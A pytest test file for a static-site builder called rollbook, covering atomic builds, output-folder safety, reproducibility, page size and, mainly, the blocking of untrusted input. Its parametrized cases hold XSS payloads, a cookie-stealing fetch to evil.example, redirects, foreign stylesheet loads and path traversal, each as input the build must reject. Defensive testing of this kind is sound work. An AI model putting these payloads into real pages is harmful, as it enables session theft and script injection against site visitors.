"""`rollbook build`: atomic output, refusal of foreign folders, reproducibility, untrusted text,
page budget and search index. Browser behaviour is in test_browser.py."""

from __future__ import annotations

import json
import re
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path

import pytest

from rollbook.commands.build import InvalidRunbooks, build
from rollbook.config import ConfigError, load_project
from rollbook.render.jinja import safe_href
from rollbook.render.urls import relative_url, safe_name
from rollbook.site import OutputError, SiteBuildError, mkdocs_driver
from rollbook.site import build as site_build
from rollbook.site.output import MARKER
from tests.conftest import run_cli
from tests.site.sitetools import EPOCH, REPO, build_project, make_project


def add_config(project: Path, line: str) -> None:
    """Add a top-level key to rollbook.toml (before its tables, where TOML wants it)."""
    config = project / "rollbook.toml"
    config.write_text(line + "\n" + config.read_text(encoding="utf-8"), encoding="utf-8")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "project")


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_build_writes_site_with_marker_and_pages(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    outcome = build_project(project, out)
    assert (out / MARKER).is_file()
    assert (out / "index.html").is_file()
    assert (out / "runbooks" / "saved-search-alerts" / "index.html").is_file()
    assert (out / "sw.js").is_file() and (out / "precache.json").is_file()
    assert outcome.report.pages >= 4
    # No staging or old folders left behind next to the site.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project", "site"]


def test_cli_build_default_out_and_message(project: Path) -> None:
    result = run_cli("build", cwd=project)
    assert result.returncode == 0, result.stderr
    assert "Built" in result.stdout and (project / "site" / "index.html").is_file()


def test_failed_build_leaves_previous_site_untouched(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    build_project(project, out)
    before = _tree(out)
    # A user template with a broken internal link makes the next build fail.
    templates = project / "my-templates" / "site" / "pages"
    templates.mkdir(parents=True)
    (templates / "team.html").write_text(
        '<h1>{{ group.name }}</h1><a href="../nowhere/">x</a>', encoding="utf-8"
    )
    add_config(project, 'templates = "my-templates"')
    with pytest.raises(SiteBuildError, match="broken internal link"):
        build_project(project, out)
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project", "site"]


def test_cli_build_failure_exits_1(project: Path) -> None:
    templates = project / "t" / "site" / "pages"
    templates.mkdir(parents=True)
    (templates / "tags.html").write_text('<a href="missing/">x</a>', encoding="utf-8")
    add_config(project, 'templates = "t"')
    result = run_cli("build", cwd=project)
    assert result.returncode == 1
    assert "broken internal link" in result.stderr and "tags/index.html: missing/" in result.stderr


def test_links_to_a_missing_id_or_outside_the_site_fail_the_build(project: Path) -> None:
    templates = project / "t" / "site" / "pages"
    templates.mkdir(parents=True)
    (templates / "tags.html").write_text(
        '<h1 id="top">Tags</h1><a href="#top">ok</a> <a href="#nowhere">x</a>'
        ' <a href="../../../etc/passwd">y</a> <a href="https://example.com/#z">ok</a>'
        ' <a href="mailto:a@example.com">ok</a> <a href="../teams/">ok</a>',
        encoding="utf-8",
    )
    add_config(project, 'templates = "t"')
    result = run_cli("build", cwd=project)
    assert result.returncode == 1
    assert "2 broken internal link(s)" in result.stderr, result.stderr
    assert "tags/index.html: #nowhere (no such id on the page)" in result.stderr
    assert "tags/index.html: ../../../etc/passwd" in result.stderr


def test_pages_start_rollbooks_search_worker(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    build_project(project, out)
    for page in ("index.html", "runbooks/saved-search-alerts/index.html"):
        html = (out / page).read_text(encoding="utf-8")
        config = json.loads(re.search(r'id="__config"[^>]*>(.*?)</script>', html, re.S)[1])
        worker = urllib.parse.urljoin(f"http://x/{page}", config["search"])
        assert worker == "http://x/assets/rollbook/search.js", page
        assert (out / "assets" / "rollbook" / "search.js").is_file()
    # Material's own worker is not shipped: nothing would start it.
    assert not (out / "assets" / "javascripts" / "workers").exists()


def test_build_fails_if_material_would_start_its_own_worker(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # As if a Material release named its worker so that the theme's swap no longer applies.
    monkeypatch.setattr(mkdocs_driver, "material_search_worker", lambda: "search.unknown.min.js")
    out = tmp_path / "site"
    with pytest.raises(SiteBuildError, match="not rollbook's"):
        build_project(project, out)
    assert not out.exists()


def test_refuses_to_replace_a_foreign_folder(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "docs"
    out.mkdir()
    (out / "precious.md").write_text("my notes", encoding="utf-8")
    with pytest.raises(OutputError, match="not built by rollbook"):
        build_project(project, out)
    assert (out / "precious.md").read_text() == "my notes"
    assert sorted(p.name for p in out.iterdir()) == ["precious.md"]
    result = run_cli("build", "--out", str(out), cwd=project)
    assert result.returncode == 2 and "refusing" in result.stderr


def test_builds_into_an_empty_folder_and_over_its_own_output(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "empty"
    out.mkdir()
    build_project(project, out)
    build_project(project, out)
    assert (out / MARKER).is_file()


def test_reproducible_with_source_date_epoch(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    build_project(project, tmp_path / "one")
    build_project(project, tmp_path / "two")
    one, two = _tree(tmp_path / "one"), _tree(tmp_path / "two")
    assert one.keys() == two.keys()
    assert [k for k in one if one[k] != two[k]] == []
    page = one["runbooks/saved-search-alerts/index.html"].decode()
    assert 'Built <time datetime="2026-01-01T00:00:00Z">2026-01-01 00:00 UTC</time>' in page


class _Active(HTMLParser):
    """Collects everything executable in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.handlers: list[str] = []
        self.urls: list[str] = []
        self.scripts: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag} {name}={value}")
            if (
                name in {"href", "src", "action", "formaction"}
                and value
                and re.match(r"\s*(javascript|data|vbscript):", value, re.I)
            ):
                self.urls.append(f"{tag} {name}={value}")
        if tag == "script":
            self.scripts.append(dict(attrs).get("src") or "inline")


def test_hostile_runbook_renders_with_nothing_executable(tmp_path: Path) -> None:
    root = make_project(tmp_path / "project", hostile=True)
    out = tmp_path / "site"
    build_project(root, out)
    page = out / "runbooks" / "hostile" / "index.html"
    assert page.is_file(), "the hostile runbook must load and get a page"
    for html_file in sorted(out.rglob("*.html")):
        text = html_file.read_text(encoding="utf-8")
        parser = _Active()
        parser.feed(text)
        where = html_file.relative_to(out)
        assert parser.handlers == [], where
        assert parser.urls == [], where
        if where.as_posix() == "rollback-cards.html":
            # The offline cards are one self-contained file: their stylesheet is inline, and
            # they have no script at all.
            assert parser.scripts == [], where
            assert not parser.tags & {"iframe", "img", "object", "embed"}, where
            continue
        assert not parser.tags & {"iframe", "img", "object", "embed", "style"}, where
        # Only the theme's scripts: rollbook's page script as a file (it loads Material's
        # when search is used), the config JSON and three small inline helpers.
        files = [s.rsplit("/", 1)[-1] for s in parser.scripts if s != "inline"]
        assert files == ["rollbook.js"], where
        assert parser.scripts.count("inline") <= 4, where
    text = page.read_text(encoding="utf-8")
    # The attacks are shown as text, so a reviewer sees them.
    assert "&lt;script&gt;alert('title')&lt;/script&gt;" in text
    assert (
        "<img" not in text and "<iframe" not in text and "<style>" not in text.split("</head>")[1]
    )
    assert "{{ 7 * 7 }}" in text  # template syntax in data is not evaluated
    assert re.search(r"<a [^>]*href=\"\s*javascript", text, re.I) is None


def test_runbook_page_budget_rollback_first(tmp_path: Path) -> None:
    small = make_project(tmp_path / "small")
    big = make_project(tmp_path / "big", extra_runbooks=60)
    build_project(small, tmp_path / "s")
    build_project(big, tmp_path / "b")
    page_small = (tmp_path / "s/runbooks/saved-search-alerts/index.html").read_bytes()
    page_big = (tmp_path / "b/runbooks/saved-search-alerts/index.html").read_bytes()
    # The page does not grow with the number of runbooks (no site-wide navigation in it).
    assert len(page_big) == len(page_small)
    assert len(page_big) < 30_000
    # Rollback first, within the first 14 KB (one round trip of TCP slow start).
    head = page_big[:14_000].decode("utf-8", "ignore")
    assert 'id="roll-back"' in head and 'id="step-1"' in head and "If not:" in head
    assert page_big.index(b'id="roll-back"') < page_big.index(b'id="signals"')


def test_search_index_holds_what_people_search_by(tmp_path: Path) -> None:
    root = make_project(tmp_path / "p", extra_runbooks=20)
    out = tmp_path / "site"
    outcome = build_project(root, out)
    indexed: set[str] = set()
    for path in (out / "search" / "t").glob("*.json"):
        indexed.update(json.loads(path.read_text(encoding="utf-8")))
    # Flag keys, alert and signal names, split into words as queries are.
    assert {"saved", "search", "alerts", "savedsearchalertflood"} <= indexed
    assert {"emails", "sent", "per", "minute"} <= indexed
    # Summaries and steps are not indexed: every word there costs readers bytes.
    assert "customers" not in indexed and "matches" not in indexed
    # What a page load fetches for search is a few hundred bytes, not the index.
    assert outcome.report.search_index_bytes < 1000


def test_overrides_are_merged_but_protected_keys_refused(project: Path, tmp_path: Path) -> None:
    (project / "mkdocs.overrides.yml").write_text(
        "theme:\n  palette:\n    primary: teal\n", encoding="utf-8"
    )
    build_project(project, tmp_path / "site")
    assert 'data-md-color-primary="teal"' in (tmp_path / "site/index.html").read_text()
    (project / "mkdocs.overrides.yml").write_text("site_dir: /tmp/elsewhere\n", encoding="utf-8")
    # A configuration error (exit 2), found before anything is built.
    with pytest.raises(ConfigError, match=r"mkdocs\.overrides\.yml:1:1: RB000 .*`site_dir`"):
        build(load_project(project), tmp_path / "site2")
    assert not (tmp_path / "site2").exists()


def test_user_template_overrides_builtin(project: Path, tmp_path: Path) -> None:
    pages = project / "tpl" / "site" / "pages"
    pages.mkdir(parents=True)
    (pages / "tags.html").write_text("<h1>Our tags</h1><p>{{ '<b>x</b>' }}</p>", encoding="utf-8")
    add_config(project, 'templates = "tpl"')
    build_project(project, tmp_path / "site")
    html = (tmp_path / "site/tags/index.html").read_text()
    assert "<h1>Our tags</h1>" in html and "&lt;b&gt;x&lt;/b&gt;" in html


@pytest.mark.parametrize(
    ("ident", "expected"),
    [
        ("checkout", "checkout"),
        ("RB201", "rb201"),
        ("../../etc/passwd", None),
        ("a/b", None),
        ("", None),
    ],
)
def test_safe_name(ident: str, expected: str | None) -> None:
    name = safe_name(ident)
    assert re.fullmatch(r"[a-z0-9-]+", name)
    if expected:
        assert name == expected
    else:
        assert name.startswith("id-")


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("https://x.example/a?b=1", True),
        ("tel:+4412", True),
        ("sms:+4412", True),
        ("../teams/x/", True),
        ("javascript:alert(1)", False),
        (" JavaScript:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.example/", False),
        ('https://x"onmouseover=', False),
    ],
)
def test_safe_href(value: str, ok: bool) -> None:
    assert (safe_href(value) == value.strip()) is ok


def test_relative_url() -> None:
    assert relative_url("runbooks/x/", "teams/t/") == "../../teams/t/"
    assert relative_url("", "runbooks/x/") == "runbooks/x/"
    assert relative_url("runbooks/x/", "") == "../../"
    assert relative_url("teams/", "teams/t/#a") == "t/#a"


def test_demo_runbooks_rollback_in_first_14kb_and_pages_under_30kb(tmp_path: Path) -> None:
    outcome = build_project(REPO, tmp_path / "site")
    assert outcome.unreadable == 0
    pages = sorted((tmp_path / "site" / "runbooks").glob("*/index.html"))
    assert pages
    for page in pages:
        data = page.read_bytes()
        assert len(data) < 30_000, page.parent.name
        # Every step (the list ends with the "Clear ticks" row) within the first 14 KB.
        assert 0 < data.find(b"rb-reset-row") < 14_000, page.parent.name


# ---------------------------------------------------------------------------------------------
# Hostile configuration: no theme file, MkDocs setting or configuration value can add a
# script, a redirect or a request to another host.


def _theme_override(project: Path, insert: str) -> None:
    """A user's theme/main.html: rollbook's own, with ``insert`` where the tabs would be."""
    theme = project / "tpl" / "site" / "theme"
    theme.mkdir(parents=True)
    main = (REPO / "templates" / "site" / "theme" / "main.html").read_text(encoding="utf-8")
    assert "{% block tabs %}{% endblock %}" in main
    main = main.replace(
        "{% block tabs %}{% endblock %}", "{% block tabs %}" + insert + "{% endblock %}"
    )
    (theme / "main.html").write_text(main, encoding="utf-8")
    add_config(project, 'templates = "tpl"')


DARK_SWITCH = 'matchMedia("(prefers-color-scheme: dark)").matches&&document.body.setAttribute('


@pytest.mark.parametrize(
    ("insert", "found"),
    [
        # Starts as rollbook's own dark-mode switch, then goes on.
        (
            "<script>" + DARK_SWITCH + '"data-md-color-scheme","slate");'
            'document.documentElement.classList.replace("no-js","js");'
            "fetch('https://evil.example/?'+document.cookie)</script>",
            "unexpected inline script",
        ),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', '"refresh"'),
        ('<link rel="prefetch" href="https://evil.example/">', '<link rel="prefetch">'),
        ("<img src=//evil.example/x.png alt>", "<img src>"),
        ("<style>@import url(https://evil.example/x.css)</style>", "a style that loads"),
        ('<p style="background:url(https://evil.example/x.png)">x</p>', "(<p style>)"),
        ('<base href="https://evil.example/">', "unexpected <base>"),
        ('<iframe src="https://evil.example/"></iframe>', "unexpected <iframe>"),
        ('<img src="x.png" srcset="https://evil.example/x.png 2x" alt>', "<img srcset>"),
        ('<svg><use href="https://evil.example/s.svg#i"/></svg>', "<use href>"),
        (
            '{{ "<!--rollbook:content--><script>alert(1)</script><!--/rollbook:content-->" }}',
            "markers",
        ),
    ],
)
def test_theme_files_that_add_scripts_or_foreign_requests_fail_the_build(
    project: Path, tmp_path: Path, insert: str, found: str
) -> None:
    out = tmp_path / "site"
    build_project(project, out)
    before = _tree(out)
    _theme_override(project, insert)
    with pytest.raises(SiteBuildError) as caught:
        build_project(project, out)
    assert "unsafe output: " in str(caught.value) and found in str(caught.value), caught.value
    assert "hint: a page may run no script but rollbook's and Material's" in str(caught.value)
    assert _tree(out) == before


def test_cli_build_with_an_unsafe_theme_exits_1_and_says_where(project: Path) -> None:
    _theme_override(project, '<link rel="preconnect" href="https://fonts.gstatic.com">')
    result = run_cli("build", cwd=project)
    assert result.returncode == 1
    assert "error: the site was not built: unsafe output: " in result.stderr
    assert "<link rel=\"preconnect\"> that loads 'https://fonts.gstatic.com'" in result.stderr
    assert "site/theme/" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("overrides", "where", "found"),
    [
        (
            "extra_javascript:\n  - https://evil.example/x.js\n",
            "1:1",
            "may not set `extra_javascript`",
        ),
        ("extra_javascript: [assets/rollbook/rollbook.js]\n", "1:1", "`extra_javascript`"),
        (
            "extra_css:\n  - css/ok.css\n  - https://evil.example/x.css\n",
            "3:5",
            "`extra_css` must name",
        ),
        ("extra_css: ['//evil.example/x.css']\n", "1:13", "`extra_css` must name a file"),
        ("theme:\n  font:\n    text: Roboto\n", "2:3", "may not set `theme.font`"),
        ("theme:\n  favicon: https://evil.example/i.png\n", "2:3", "`theme.favicon` must name"),
        ("theme: mkdocs\n", "1:1", "`theme` must be a mapping"),
        ("extra:\n  polyfills: [https://evil.example/p.js]\n", "2:3", "`extra.polyfills`"),
        ("extra:\n  scope: '\"+alert(1)+\"'\n", "2:3", "may not set `extra.scope`"),
        (
            "extra:\n  analytics:\n    provider: google\n    property: G-X\n",
            "2:3",
            "`extra.analytics`",
        ),
        ("extra:\n  rollbook:\n    material_bundle: x.js\n", "2:3", "`extra.rollbook`"),
        ("site_url: javascript:alert(1)\n", "1:1", "set `site-url` in rollbook's configuration"),
    ],
)
def test_overrides_that_add_scripts_or_foreign_requests_are_config_errors(
    project: Path, tmp_path: Path, overrides: str, where: str, found: str
) -> None:
    (project / "mkdocs.overrides.yml").write_text(overrides, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        build_project(project, tmp_path / "site")
    assert f"mkdocs.overrides.yml:{where}: RB000 " in str(caught.value), caught.value
    assert found in str(caught.value)
    assert caught.value.problems and caught.value.problems[0].hint
    assert not (tmp_path / "site").exists()


def test_cli_refused_overrides_exit_2(project: Path, tmp_path: Path) -> None:
    overrides = tmp_path / "evil.yml"
    overrides.write_text("theme:\n  palette: {primary: teal}\n  font: {text: Roboto}\n")
    result = run_cli("build", "--overrides", str(overrides), cwd=project)
    assert result.returncode == 2
    assert f"{overrides}:3:3: RB000 the overrides file may not set `theme.font`" in result.stderr
    assert "hint: it loads web fonts from Google" in result.stderr
    assert not (project / "site").exists()


@pytest.mark.parametrize(
    ("overrides", "found"),
    [
        # Settings Material writes into pages without escaping: the page check catches them.
        ("theme:\n  palette:\n    primary: 'x\"/onmouseover=\"alert(1)'\n", "event handler"),
        (
            "theme:\n  palette:\n    primary: 'x\"/style=\"background:url(https://evil.example/x)'\n",
            "a style that loads 'https://evil.example/x'",
        ),
        (
            'theme:\n  direction: \'ltr"><meta http-equiv="refresh" '
            'content="0;url=//evil.example"\'\n',
            '"refresh"',
        ),
        (
            "theme:\n  icon:\n    admonition:\n"
            "      'x:url(https://evil.example/a)}': material/close\n",
            "a style that loads 'https://evil.example/a'",
        ),
    ],
)
def test_overrides_material_prints_raw_fail_the_page_check(
    project: Path, tmp_path: Path, overrides: str, found: str
) -> None:
    (project / "mkdocs.overrides.yml").write_text(overrides, encoding="utf-8")
    with pytest.raises(SiteBuildError) as caught:
        build_project(project, tmp_path / "site")
    assert "unsafe output: index.html: " in str(caught.value), caught.value
    assert found in str(caught.value), caught.value
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(
    "css",
    [
        "@import url(https://evil.example/x.css);\n",
        '@import "//evil.example/x.css";\n',
        ".rb-site{background:url(https://evil.example/pixel.png)}\n",
        ".rb-site{background:u\\72l(//evil.example/pixel.png)}\n",
        "@font-face{font-family:x;src:url(https://fonts.gstatic.com/x.woff2)}\n",
    ],
)
def test_a_stylesheet_that_loads_from_another_host_fails_the_build(
    project: Path, tmp_path: Path, css: str
) -> None:
    assets = project / "tpl" / "site" / "assets"
    assets.mkdir(parents=True)
    builtin = (REPO / "templates" / "site" / "assets" / "rollbook.css").read_text()
    (assets / "rollbook.css").write_text(css + builtin, encoding="utf-8")
    add_config(project, 'templates = "tpl"')
    with pytest.raises(SiteBuildError) as caught:
        build_project(project, tmp_path / "site")
    assert "assets/rollbook/" in str(caught.value) and "a style that loads" in str(caught.value)
    assert not (tmp_path / "site").exists()


def test_hostile_site_name_stays_text(project: Path, tmp_path: Path) -> None:
    name = (
        "</title><script>alert(1)</script>"
        '"><img src=//evil.example/x onerror=alert(2)>'
        '<meta http-equiv="refresh" content="0;url=//evil.example">'
    )
    config = project / "rollbook.toml"
    text = config.read_text(encoding="utf-8")
    assert re.search(r"^site-name = .*$", text, re.M)
    config.write_text(
        re.sub(r"^site-name = .*$", lambda _: f"site-name = {json.dumps(name)}", text, flags=re.M)
    )
    out = tmp_path / "site"
    build_project(project, out)
    for html_file in sorted(out.rglob("*.html")):
        text = html_file.read_text(encoding="utf-8")
        parser = _Active()
        parser.feed(text)
        where = html_file.relative_to(out)
        assert parser.handlers == [] and parser.urls == [], where
        assert "img" not in parser.tags, where
        if where.as_posix() == "rollback-cards.html":
            # The offline cards: their one http-equiv is their own policy forbidding every
            # request; the name is text in their title and heading; no script at all.
            assert text.count("<meta http-equiv") == 1, where
            assert (
                '<meta http-equiv="Content-Security-Policy" content="default-src \'none\';' in text
            )
            assert "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in text
            assert parser.scripts == [], where
            continue
        assert "<meta http-equiv" not in text, where
        assert [s.rsplit("/", 1)[-1] for s in parser.scripts if s != "inline"] == ["rollbook.js"]
    home = (out / "index.html").read_text(encoding="utf-8")
    assert "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in home


# ---------------------------------------------------------------------------------------------
# Ids that would take the place of one of the site's own pages


@pytest.mark.parametrize(
    ("file", "old", "new", "where", "field"),
    [
        ("runbooks/teams.yaml", "  - id: my-team", "  - id: index", "4:9", "teams[0].id"),
        ("runbooks/saved-search-alerts.yaml", "owner: my-team", "owner: index", "8:8", "owner"),
        (
            "runbooks/saved-search-alerts.yaml",
            "tags: [email]",
            "tags: [email, index]",
            "10:15",
            "tags[1]",
        ),
        (
            "runbooks/saved-search-alerts.yaml",
            "tags: [email]",
            "tags:\n  - index",
            "11:5",
            "tags[0]",
        ),
    ],
)
def test_ids_that_name_a_page_of_the_site_are_refused(
    project: Path, file: str, old: str, new: str, where: str, field: str
) -> None:
    path = project / file
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    result = run_cli("validate", cwd=project)
    assert result.returncode == 1, result.stdout
    assert f"{file}:{where}: RB006 {field}: 'index' is reserved" in result.stdout, result.stdout
    assert "choose another name" in result.stdout


def test_a_tag_named_index_does_not_replace_the_list_of_tags(project: Path, tmp_path: Path) -> None:
    path = project / "runbooks" / "saved-search-alerts.yaml"
    path.write_text(path.read_text().replace("tags: [email]", "tags: [email, index]"))
    out = tmp_path / "site"
    with pytest.raises(InvalidRunbooks):  # the refused tag stops the build...
        build_project(project, out)
    outcome = build_project(project, out, keep_going=True)  # ...or its runbook is left out
    assert outcome.unreadable == 1
    assert "<h1>Tags</h1>" in (out / "tags" / "index.html").read_text(encoding="utf-8")


def test_every_page_the_layout_names_itself_is_reserved(tmp_path: Path) -> None:
    # In each folder holding team or tag pages, any page not named by an id has a reserved name.
    from rollbook.commands.build import render_pages
    from rollbook.load.runbooks import load_project_runbooks
    from rollbook.model.runbook import RESERVED_PAGE_NAMES
    from rollbook.render.views import LintResults

    loaded = load_project_runbooks(load_project(REPO))
    pages = render_pages(
        loaded,
        lint=LintResults(),
        built=__import__("datetime").datetime(2026, 1, 1),
        user_templates=None,
    )
    ids = {"teams": set(), "tags": set()}
    for item in loaded.runbooks:
        if item.runbook is not None:
            ids["teams"].add(item.runbook.owner)
            ids["tags"].update(item.runbook.tags)
    for page in pages:
        folder, _, name = page.src_uri.removesuffix(".md").partition("/")
        if folder in ids and name not in ids[folder]:
            assert name in RESERVED_PAGE_NAMES, page.src_uri
    assert {"teams/index.md", "tags/index.md"} <= {p.src_uri for p in pages}


def test_two_pages_at_one_path_fail_the_build(tmp_path: Path) -> None:
    # The last guard, should an id ever reach the layout's own names past the model.
    from rollbook.render.views import SitePage

    pages = [SitePage("tags/index.md", t, "d", "<p>x</p>", kind="tag") for t in ("Tags", "x")]
    with pytest.raises(SiteBuildError, match=r"two pages would be written to tags/index\.md"):
        site_build.build_site(pages, tmp_path / "site", site_build.SiteOptions())
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(
    ("name", "text", "found"),
    [
        (
            "pages/evil.htm",
            "<p>x</p><script>alert(1)</script>",
            "pages/evil.htm: unexpected inline",
        ),
        ("img/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "onload"),
        (
            "img/x.xhtml",
            '<html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></html>',
            "x.xhtml",
        ),
        ("img/logo.svgz", "x", "img/logo.svgz: a browser may open it as a page"),
    ],
)
def test_theme_files_a_browser_opens_as_pages_are_checked(
    project: Path, tmp_path: Path, name: str, text: str, found: str
) -> None:
    # MkDocs copies every file of the theme folder into the site, where it runs on the
    # site's own origin when someone opens it.
    path = project / "tpl" / "site" / "theme" / name
    path.parent.mkdir(parents=True)
    path.write_text(text, encoding="utf-8")
    add_config(project, 'templates = "tpl"')
    with pytest.raises(SiteBuildError) as caught:
        build_project(project, tmp_path / "site")
    assert "unsafe output" in str(caught.value) and found in str(caught.value), caught.value


def test_a_plain_svg_logo_from_the_theme_folder_is_fine(project: Path, tmp_path: Path) -> None:
    from tests.site.test_sanitize import LOGO

    images = project / "tpl" / "site" / "theme" / "images"
    images.mkdir(parents=True)
    (images / "logo.svg").write_text(LOGO, encoding="utf-8")
    add_config(project, 'templates = "tpl"')
    (project / "mkdocs.overrides.yml").write_text("theme:\n  favicon: images/logo.svg\n")
    build_project(project, tmp_path / "site")
    assert (tmp_path / "site" / "images" / "logo.svg").is_file()
    home = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    assert '<link rel="icon" href="images/logo.svg">' in home
